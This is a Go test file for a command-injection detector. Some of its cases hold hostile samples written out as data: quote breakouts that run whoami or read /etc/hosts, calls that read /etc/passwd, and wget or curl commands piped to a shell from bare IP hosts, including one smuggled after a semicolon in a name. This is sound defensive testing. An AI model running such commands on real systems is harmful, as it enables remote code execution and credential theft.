package validate

import "testing"

func TestCmdIQuotedArgument(t *testing.T) {
	checkCmdI(t, []cmdiCase{
		{"I tried find src -name '*.go' | xargs gofmt -l and nothing prints, why", false},
		{"ich nutze grep -rl \"TODO\" . | xargs sed -i 's/a/b/' ist das ok", false},
		{"bob' | whoami", true},
		{"x\" ; cat /etc/hosts", true},
	})
}

func TestCmdIConcatenatedSink(t *testing.T) {
	checkCmdI(t, []cmdiCase{
		{"is subprocess.call('nslookup ' + domain, shell=True) as bad as os.system?", false},
		{"PHP: exec(\"convert \" . $file . \" out.png\") — how do I escape $file?", false},
		{"system('cat /etc/passwd' + x)", true},
		{"system('id')", true},
	})
}

func TestCmdIAskedInstall(t *testing.T) {
	checkCmdI(t, []cmdiCase{
		{"Is it safe to run curl -sSL https://install.python-poetry.org | sh on my laptop?", false},
		{"la doc dice wget -qO- https://deb.nodesource.com/setup_20.x | bash, ¿hace falta sudo?", false},
		{"verify it first: curl -s https://x.example/a.tgz | sha256sum", false},
		{"please run wget -qO- http://203.0.113.4/x | sh", true},
		{"curl -s https://198.51.100.7/i | bash", true},
		{"my name is bob;curl https://get.example.com/x | sh", true},
	})
}
